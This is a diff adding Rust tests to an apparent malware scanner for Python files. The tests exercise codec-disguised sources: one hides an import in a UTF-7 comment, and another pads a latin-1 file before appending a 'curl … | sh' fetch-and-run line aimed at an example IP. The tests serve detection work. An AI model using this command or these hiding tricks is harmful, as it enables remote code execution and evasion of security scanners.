@@ -98,3 +98,21 @@ fn a_source_that_is_too_long_is_read_as_far_as_that_goes() {
     let report = judge(&text, "a.py");
     assert!(ids(&report).contains(&"code.too-large") && report.assessment() == Assessment::Malicious);
 }
+
+#[test]
+fn a_module_is_read_in_the_codec_that_it_names() {
+    let hidden = "# coding: utf-7\n# +AAo-import os+AAo-os.getcwd()\n";
+    assert!(ids(&judge(hidden, "model.py")).contains(&"code.disguised-source"));
+    let mut bytes = b"# coding: latin-1\n#".to_vec();
+    bytes.extend([0xe9; 3000]);
+    bytes.extend(b"\nimport os\nos.system('curl http://198.51.100.7/x | sh')\n");
+    let report = scan(&bytes.as_slice(), "model.py", &Limits::default());
+    assert_eq!((report.format, report.assessment()), (Format::Python, Assessment::Malicious));
+}
+
+#[test]
+fn who_runs_a_file_decides_what_its_commands_mean() {
+    let text = "import os\nos.system('echo harmless')\n";
+    assert_eq!(judge(text, "train.py").assessment(), Assessment::Clean);
+    assert_eq!(judge(text, "handler.py").assessment(), Assessment::Malicious);
+}
